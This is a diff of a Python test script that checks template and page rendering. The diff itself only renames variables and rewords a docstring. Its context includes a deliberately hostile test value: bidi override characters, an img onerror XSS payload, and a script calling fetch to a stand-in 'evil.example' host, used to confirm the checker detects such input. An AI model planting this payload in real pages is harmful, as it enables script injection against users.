@@ -354,7 +354,7 @@ def check_templates(browser, folder):
         (made / "template.yaml").write_text((project / "templates/all/template.yaml").read_text())
         (made / "style.css").write_bytes(sheet.encode())
     checked = subprocess.run([PLACARD, "check", "--project", str(project), "--format", "json"], capture_output=True, text=True)
-    refused = {finding["location"]["file"] for finding in json.loads(checked.stdout)["diagnostics"] if finding["severity"] == "error"}
+    refused = {diagnostic["location"]["file"] for diagnostic in json.loads(checked.stdout)["diagnostics"] if diagnostic["severity"] == "error"}
     if not all(re.fullmatch(r"templates/t\d+/style.css", file) for file in refused):
         problem("templates", f"other files are refused: {sorted(refused)[:5]}")
     for file in refused:
@@ -465,14 +465,14 @@ def check_demo(browser, folder):
 
 
 def check_that_it_can_fail(browser, folder):
-    """A page with a value as it came must give a finding of every kind."""
+    """A page with a value as it came must give a complaint of every kind."""
     page = folder / "pages" / "broken" / "broken.html"
     page.parent.mkdir(parents=True)
     value = "\u2069\u202e<img src=x onerror=alert(1)><script>console.log(1);fetch('https://evil.example')</script>"
 
     def tree(value):
         page.write_text(f'<!doctype html><html><meta charset="utf-8"><div id=body><p>before0 {value} after0</p></div>', encoding="utf-8")
-        return browser.open(page.as_uri(), settle=0.1), json.loads(browser.evaluate(TREE)), browser.evaluate(ORDER)
+        return browser.open(page.as_uri(), pause=0.1), json.loads(browser.evaluate(TREE)), browser.evaluate(ORDER)
 
     _, harmless, _ = tree(token(0))
     doings, hostile, order = tree(value)
